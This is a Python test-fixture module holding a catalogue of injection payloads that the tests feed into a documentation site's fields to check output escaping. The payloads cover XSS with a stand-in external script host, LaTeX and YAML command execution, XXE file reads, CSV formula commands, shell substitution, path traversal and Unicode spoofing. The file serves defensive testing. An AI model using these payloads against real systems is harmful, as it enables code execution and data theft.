"""The texts that we hold against every output: what each attacks, and who admits it.

The one home of hostile texts. What runs where it should not calls `pwned()`, and what
asks for anything asks `elsewhere.example`. A new text is one line here; tests then put
it into every field and look at every output.
"""

# ruff: noqa: E501 (a payload is one line)

from __future__ import annotations

from collections.abc import Iterable
from enum import Flag, auto
from typing import NamedTuple

import pytest


class Field(Flag):
    """The kinds of field that admit texts of this kind; dates and tags admit none."""

    TEXT = auto()  # titles, venues, affiliations, labels, languages, meanings of tags
    AUTHOR = auto()
    NOTE = auto()
    ADDRESS = auto()
    ID = auto()  # and the name of a tag


TEXT, AUTHOR, NOTE, ADDRESS, ID = Field
NOWHERE = Field(0)
NOT_NOTE = TEXT | AUTHOR
NOT_AUTHOR = TEXT | NOTE
ANYWHERE = TEXT | AUTHOR | NOTE


class Payload(NamedTuple):
    """A text, what it attacks, and the kinds of field whose rules admit it."""

    attacks: str
    text: str
    admitted: Field = ANYWHERE


PAYLOADS = {
    # HTML
    "script": Payload("elements", "<script>pwned()</script>", NOT_NOTE),
    "script of another host": Payload("elements", "<script src=https://elsewhere.example/x.js></script>", NOT_NOTE),
    "handler": Payload("elements", "<img src=x onerror=pwned()>", NOT_NOTE),
    "svg": Payload("elements", "<svg onload=pwned()><animate onbegin=pwned() attributeName=x dur=1s>", NOT_NOTE),
    "mathml": Payload("elements", "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>", NOT_NOTE),
    "mutation": Payload("the parser", '<noscript><p title="</noscript><img src=x onerror=pwned()>">', NOT_NOTE),
    "focus": Payload("elements", "<input autofocus onfocus=pwned()>", NOT_NOTE),
    "details": Payload("elements", "<details open ontoggle=pwned()>", NOT_NOTE),
    "frame": Payload("elements", "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>", NOT_NOTE),
    "object": Payload("elements", "<object data=data:text/html,x></object><embed src=//elsewhere.example>", TEXT),
    "form": Payload("elements", "<form action=https://elsewhere.example><button>x</button></form>", NOT_NOTE),
    "refresh": Payload("navigation", "<meta http-equiv=refresh content='0;url=https://elsewhere.example'>", TEXT),
    "base": Payload("addresses", "<base href=//elsewhere.example/>", NOT_NOTE),
    "style": Payload("the look", "<style>@import '//elsewhere.example/x.css'; * { display: none }</style>", TEXT),
    "double quote": Payload("attributes", '" onmouseover="pwned()" x="'),
    "single quote": Payload("attributes", "' onfocus='pwned()' tabindex='0"),
    "no quote": Payload("attributes", "x onmouseover=pwned() y"),
    "angle in attribute": Payload("attributes", '"><img src=x onerror=pwned()>', NOT_NOTE),
    "end of script": Payload("JSON-LD", "</script><script>pwned()</script>", NOT_NOTE),
    "script in comment": Payload("JSON-LD", "<!--<script>", NOT_NOTE),
    "end of title": Payload("the head", "</title></head><body><script>pwned()</script>", NOT_NOTE),
    "end of elements": Payload("the page", "</a></h3></p></li></article></textarea></style><hr>", NOT_NOTE),
    "open comment": Payload("the page", "<!-- ", NOT_NOTE),
    "closed comment": Payload("the page", "--> x <!--", NOT_NOTE),
    "bogus comment": Payload("the page", "<! x > <? x ?> </ x >", NOT_NOTE),
    "open tag": Payload("the page", "<a href=https://elsewhere.example x='", NOT_NOTE),
    "dangling": Payload("the page", "<img src='https://elsewhere.example/?", NOT_NOTE),
    "void element": Payload("the page", "<br><hr/><wbr>", NOT_NOTE),
    "bare angles": Payload("the page", "a < b > c <3 >> <<"),
    "entities": Payload("escaping", "&amp; &lt;b&gt; &#0; &nbsp; &copy", NOT_AUTHOR),
    "entities of a tag": Payload("escaping", "&lt;img src=x onerror=pwned()&gt; &#60;b&#62; &#x3c;b&#x3e;", NOT_AUTHOR),
    "entities twice": Payload("escaping", "&amp;lt;script&amp;gt;pwned()", NOT_AUTHOR),
    "no semicolon": Payload("escaping", "&ltimg src=x onerror=pwned()&gt", NOT_AUTHOR),
    "full width": Payload("escaping", "＜script＞pwned()＜/script＞"),
    "utf-7": Payload("escaping", "+ADw-script+AD4-pwned()+ADw-/script+AD4-"),
    # Markdown
    "script link": Payload("links", "[x](javascript:pwned())", NOT_NOTE),
    "data link": Payload("links", "[x](data:text/html,pwned())", TEXT),
    "hidden scheme": Payload("links", "[x](&#106;avascript:pwned()) [x](JaVaScRiPt:pwned())", TEXT),
    "end of link": Payload("links", "](javascript:pwned()) [x", NOT_NOTE),
    "end of label": Payload("links", "x][y](https://elsewhere.example", NOT_NOTE),
    "reference": Payload("links", "[x]: javascript:pwned()"),
    "references": Payload("links", "[x][y] [z][] [w] [[wiki]]"),
    "automatic link": Payload("links", "<https://elsewhere.example> <javascript:pwned()>", NOT_NOTE),
    "bare address": Payload("links", "https://elsewhere.example/x www.elsewhere.example ada@elsewhere.example"),
    "image": Payload("images", "![x](https://elsewhere.example/x.png)", NOT_NOTE),
    "image by reference": Payload("images", "![x][y] ![[x]]", NOT_NOTE),
    "exclamation": Payload("images", "Wow!"),
    "heading": Payload("blocks", "# x ## y #"),
    "underline": Payload("blocks", "=== --- ***"),
    "rule": Payload("blocks", "---"),
    "list": Payload("blocks", "- [x] item"),
    "numbered list": Payload("blocks", "1. item 2) item"),
    "quote": Payload("blocks", "> quote"),
    "definition": Payload("blocks", ": definition"),
    "table": Payload("blocks", "| a | b | :-: | c |"),
    "fence": Payload("blocks", "``` { .html onclick=pwned() }"),
    "tildes": Payload("blocks", "~~~ python"),
    "backticks": Payload("spans", "`a ``b ```c"),
    "code": Payload("spans", "`<script>pwned()</script>` and `[x](javascript:pwned())`", NOT_AUTHOR),
    "emphasis": Payload("spans", "*a* **b** _c_ __d__ ~~e~~ ^f^ ==g== ++h++ {--i--}"),
    "unclosed emphasis": Payload("spans", "**a _b"),
    "backslashes": Payload("spans", "\\ \\\\ \\[ \\( \\* x\\"),
    "attributes": Payload("attribute lists", "x {: onclick=pwned() .red #__config }"),
    "attributes without colon": Payload("attribute lists", 'x { .red onclick="pwned()" }'),
    "identity": Payload("attribute lists", "{ #__search }"),
    "admonition": Payload("extensions", '!!! danger "x"'),
    "folded": Payload("extensions", '???+ note "x"'),
    "snippet": Payload("extensions", '--8<-- "resources.yaml"'),
    "object of the code": Payload("extensions", "::: implementations.nice.nice"),
    "reference to it": Payload("extensions", '<autoref identifier="implementations.nice.nice">x</autoref>', NOT_NOTE),
    "footnote": Payload("extensions", "x[^1] [^1]: y"),
    "abbreviation": Payload("extensions", "*[HTML]: <b>x</b>", NOT_NOTE),
    "contents": Payload("extensions", "[TOC]"),
    "block in HTML": Payload("extensions", "<div markdown=1 onclick=pwned()>", NOT_NOTE),
    "emoji": Payload("extensions", ":tada: :material-skull: 🌊 😀"),
    "mentions": Payload("GitHub", "@janosh #1 janosh/x#1 GH-1 4d556f4 cc @team/all"),
    "comment of Markdown": Payload("GitHub", "[//]: # (x)"),
    "end of picture": Payload("GitHub", "</picture></details><kbd>", NOT_NOTE),
    # Mathematics
    "formula": Payload("KaTeX", r"$\href{javascript:pwned()}{x}$ $$\htmlClass{md-dialog}{x}$$"),
    "formula in brackets": Payload("KaTeX", r"\(\htmlData{x=1}{\url{javascript:pwned()}}\) \[\includegraphics{x}\]"),
    "marked formula": Payload("KaTeX", r'<span class="arithmatex">\(\href{javascript:pwned()}{x}\)</span>', NOT_NOTE),
    "endless macro": Payload("KaTeX", r"$\def\x{\x\x}\x$ \begin{align} x"),
    # Templates and commands
    "words of templates": Payload("templates", 'class="arithmatex" id="browse" class="word" class="sortable"'),
    "jinja": Payload("templates", "{{ 7 * 7 }} {{ config.theme }} {% raw %} {# x #}"),
    "jinja statement": Payload("templates", "{% include 'mkdocs.yml' %} {% endif %} {%- macro x() %}"),
    "format": Payload("templates", "%s %(x)s {0} {title!r} {x.__class__} ${x} $$"),
    "workflow": Payload("commands", "${{ github.token }} ::error file=x::y %0A::set-output name=x::y"),
    "shell": Payload("commands", "$(touch pwned) `touch pwned` | touch pwned; ' \" || x", TEXT | NOTE),
    "option": Payload("commands", "--output=/tmp/pwned -rf"),
    # YAML
    "front matter": Payload("YAML", "--- title: x ---"),
    "mapping": Payload("YAML", "x: {y: [z]} # comment"),
    "anchor": Payload("YAML", "&x *x !!python/object/apply:os.system [id] <<: *x", TEXT | NOTE),
    "null": Payload("YAML", "null", ANYWHERE | ID),
    "number": Payload("YAML", "1e3"),
    "truth": Payload("YAML", "true", ANYWHERE | ID),
    "date": Payload("YAML", "2020-02-30"),
    "block": Payload("YAML", "|- x"),
    "quotes": Payload("YAML", "\"double\" 'single' “curly” \\\" \\'"),
    # LaTeX and BibTeX
    "latex": Payload("LaTeX", r"\input{/etc/passwd} 100% of $x_1^2$ & #1 ~ \\ {\bf x}", NOT_AUTHOR),
    "shell escape": Payload("LaTeX", r"\immediate\write18{touch pwned} ^^5cinput \catcode`\%=12"),
    "closing brace": Payload("BibTeX", "}, note = {injected", NOT_AUTHOR),
    "opening brace": Payload("BibTeX", "{{{"),
    "escaped brace": Payload("BibTeX", r"\{ x \} \\}"),
    "new entry": Payload("BibTeX", "}} @misc{evil, title = {Evil}}", NOT_AUTHOR),
    "preamble": Payload("BibTeX", "} @preamble{x} @string{jan = x} @comment{"),
    "macro": Payload("BibTeX", '" # jan # "'),
    "comment of LaTeX": Payload("BibTeX", "% nothing after this"),
    "escape first": Payload("BibTeX", "$k$-FLOWS"),
    "several people": Payload("BibTeX", "Mallory and Alice AND Bob", NOT_AUTHOR),
    "and without words": Payload("BibTeX", "x AND"),
    "others": Payload("BibTeX", "others", ANYWHERE | ID),
    "comma": Payload("BibTeX", "King, Jr., Martin", NOT_AUTHOR),
    "developers": Payload("BibTeX", "The PyMC developers"),
    "lower case": Payload("BibTeX", "bell hooks"),
    # Spreadsheets
    "formula =": Payload("CSV", '=HYPERLINK("https://elsewhere.example";"x")', NOT_AUTHOR),
    "formula +": Payload("CSV", "+1"),
    "formula -": Payload("CSV", "-1+1"),
    "formula @": Payload("CSV", "@SUM(A1:A9)"),
    "formula of East Asia": Payload("CSV", "＝1＋1"),
    "command": Payload("CSV", "=cmd|' /C calc'!A0"),
    "separators": Payload("CSV", 'a, b; c: d, "e"', NOT_AUTHOR),
    "newlines": Payload("CSV", "one\ntwo\tthree"),
    # XML
    "cdata": Payload("XML", "<![CDATA[ x ]]> ]]>", NOT_NOTE),
    "entity": Payload("XML", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', TEXT),
    "instruction": Payload("XML", '<?xml version="1.0"?><?xml-stylesheet href="x"?>', NOT_NOTE),
    "namespace": Payload("XML", "</title></entry></feed><x:y xmlns:x='z'/>", NOT_NOTE),
    # Addresses of the site: the list's filters, the search
    "query": Payload("URLs", "x&tag=graphs#browse?q=y%00%3Cscript%3E", NOT_AUTHOR),
    "search words": Payload("the search", "+x -y title:z *w ~1 ^2 constructor __proto__"),
    "properties": Payload("scripts", "__proto__ constructor toString hasOwnProperty"),
    # Characters
    "combining": Payload("characters", "e\u0301\u0323 Å n\u0303 Z\u0351\u036b\u0343\u036a\u0302"),
    "astral": Payload("characters", "𝒩ormalizing 🌊 𠮷"),
    "right to left letters": Payload("characters", "שלום (x) flows مرحبا"),
    "joiners": Payload("characters", "می‌خواهم (x) ශ්‍රී क्‌ष १ flows"),
    "joiners out of place": Payload("characters", "a\u200cb م\u200c شـ\u200d (ا\u200cب) ශ\u200dර", NOWHERE),
    "look-alike": Payload("characters", "gіthub.com/pаypal"),
    "spaces": Payload("characters", "\u00a0x\u2003y\u3000z\u00a0"),
    "control": Payload("characters", "a\x00b\x08c\x1b[31md\x7f", NOWHERE),
    "line separator": Payload("characters", "one\u2028two\u2029three\x85four", NOWHERE),
    "bidirectional": Payload("characters", "x\u202egpj.exe\u202c", NOWHERE),
    "isolate": Payload("characters", "x\u2066y\u2069\u200f", NOWHERE),
    "zero width": Payload("characters", "ad\u200bmin\u200d\u2060", NOWHERE),
    "byte-order mark": Payload("characters", "\ufeffx", NOWHERE),
    "soft hyphen": Payload("characters", "ad\u00admin", NOWHERE),
    "tag characters": Payload("characters", "x\U000e0041\U000e007f", NOWHERE),
    "selectors": Payload("characters", "x\ufe00\U000e0100\U000e01ef", NOWHERE),
    "blank letters": Payload("characters", "\u3164\u115f\uffa0\u2800", NOWHERE),
    "no character": Payload("characters", "x\ufffey\uffffz\ufdd0\U0001fffe", NOWHERE),
    "private character": Payload("characters", "x\ue000\U00100000", NOWHERE),
    "lone surrogate": Payload("characters", "x\ud800", NOWHERE),
    "nothing": Payload("characters", " \n ", NOWHERE),
    "long": Payload("sizes", "x" * 600, NOTE),
    "long word": Payload("sizes", "W" * 280),
    "too long": Payload("sizes", "x " * 20_000, NOWHERE),
    # Addresses
    "quote in address": Payload("addresses", "https://example.org/'onmouseover='pwned()", ANYWHERE | ADDRESS),
    "end of link in address": Payload("addresses", "https://example.org/)[x](javascript:pwned())", NOT_NOTE | ADDRESS),
    "brackets in address": Payload("addresses", "https://example.org/a)](b)[c](d)", ADDRESS | NOT_NOTE),
    "Markdown in address": Payload("addresses", "https://example.org/a_b_*c*__d__~~e~~$f$!", ANYWHERE | ADDRESS),
    "entities in address": Payload("addresses", "https://example.org/?a=1&lt=2&copy=3&#x27;", NOT_AUTHOR | ADDRESS),
    "encoded script in address": Payload("addresses", "https://example.org/%3Cscript%3Epwned()%3C/script%3E", ANYWHERE | ADDRESS),
    "encoded template in address": Payload("addresses", "https://example.org/%7B%7B7*7%7D%7D", ANYWHERE | ADDRESS),
    "line end in address": Payload("addresses", "https://example.org/%0d%0aSet-Cookie:x%00", ANYWHERE | ADDRESS),
    "LaTeX in address": Payload("addresses", "https://example.org/a~b_c%5Cinput#d&e$f", NOT_AUTHOR | ADDRESS),
    "way up in address": Payload("addresses", "https://example.org/../../%2e%2e/etc/passwd", ANYWHERE | ADDRESS),
    "separators in address": Payload("addresses", "https://example.org/a,b;c:d@e", TEXT | NOTE | ADDRESS),
    "script address": Payload("addresses", "javascript:pwned()"),
    "script address in pieces": Payload("addresses", "java\tscript:pwned()//https://example.org/"),
    "data address": Payload("addresses", "data:text/html,<script>pwned()</script>", TEXT),
    "other schemes": Payload("addresses", "file:///etc/passwd vbscript:x blob:x ftp://x"),
    "no scheme": Payload("addresses", "//elsewhere.example/x"),
    "backslashes in address": Payload("addresses", r"https:\\elsewhere.example\@example.org"),
    "credentials": Payload("addresses", "https://example.org@elsewhere.example/"),
    "host of numbers": Payload("addresses", "https://[::1]/ https://127.0.0.1/ https://2130706433/"),
    "host in Unicode": Payload("addresses", "https://exаmple.org/"),
    "quote ends address": Payload("addresses", 'https://example.org/"><script>pwned()</script>', NOT_NOTE),
    # Ids
    "way up": Payload("paths", "../../etc/passwd"),
    "absolute": Payload("paths", "/etc/passwd"),
    "windows": Payload("paths", r"C:\con\nul"),
    "dots": Payload("paths", ".."),
    "zero byte": Payload("paths", "x.md\x00.png", NOWHERE),
    "encoded way up": Payload("paths", "%2e%2e%2fetc"),
}  # fmt: skip


def cases(names: Iterable[str] = PAYLOADS) -> list[object]:
    """The names as parameters of a test, each of the kind that its text attacks."""
    return [
        pytest.param(name, id=name, marks=pytest.mark.kinds(PAYLOADS[name].attacks))
        for name in names
    ]
